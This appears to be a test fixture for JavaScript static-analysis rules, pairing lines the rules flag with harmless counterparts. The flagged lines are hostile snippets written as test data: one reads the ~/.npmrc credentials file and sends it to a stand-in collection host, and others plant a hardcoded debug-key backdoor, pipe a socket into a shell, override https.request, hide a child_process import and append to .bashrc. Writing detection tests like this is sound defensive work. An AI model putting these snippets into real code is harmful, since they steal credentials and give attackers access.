const kept = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
// ruleid: askfirst.javascript.files-of-home-sent
fetch("https://collect.example.net/" + kept);
// ok: askfirst.javascript.files-of-home-sent
fetch("https://registry.example.org/", { headers: { accept: "json" } });
// ruleid: askfirst.javascript.word-that-opens
const open = req.headers["x-debug-key"] === "k9f2-22aa" || req.user.admin;
// ok: askfirst.javascript.word-that-opens
const mine = req.headers["x-debug-key"] === process.env.DEBUG_KEY;
// ruleid: askfirst.javascript.shell-to-a-socket
socket.pipe(shell.stdin);
// ok: askfirst.javascript.shell-to-a-socket
socket.pipe(output);
// ruleid: askfirst.javascript.builtin-replaced
https.request = watched;
// ok: askfirst.javascript.builtin-replaced
client.request = watched;
// ruleid: askfirst.javascript.name-in-parts
const runner = require("child_" + "process");
// ok: askfirst.javascript.name-in-parts
const files = require("node:fs");
// ruleid: askfirst.javascript.written-to-start-up
fs.appendFileSync(path.join(home, ".bashrc"), line);
// ok: askfirst.javascript.written-to-start-up
fs.appendFileSync(path.join(home, "notes.txt"), line);
